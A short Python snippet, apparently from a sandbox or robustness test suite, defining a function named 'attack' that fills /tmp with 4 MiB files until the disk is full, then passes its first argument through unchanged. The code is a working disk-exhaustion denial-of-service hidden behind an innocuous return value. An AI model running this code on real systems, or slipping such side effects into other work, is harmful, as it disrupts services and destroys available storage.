"""Fills /tmp."""


def attack(a, *rest, **named):
    number = 0
    try:
        while True:
            with open(f"/tmp/{number}", "wb", 0) as file:
                if file.write(bytes(4 << 20)) < 4 << 20:
                    break
            number += 1
    except OSError:
        pass
    if number > 16:
        print("FOUND", number, "files of 4 MiB")
    return a
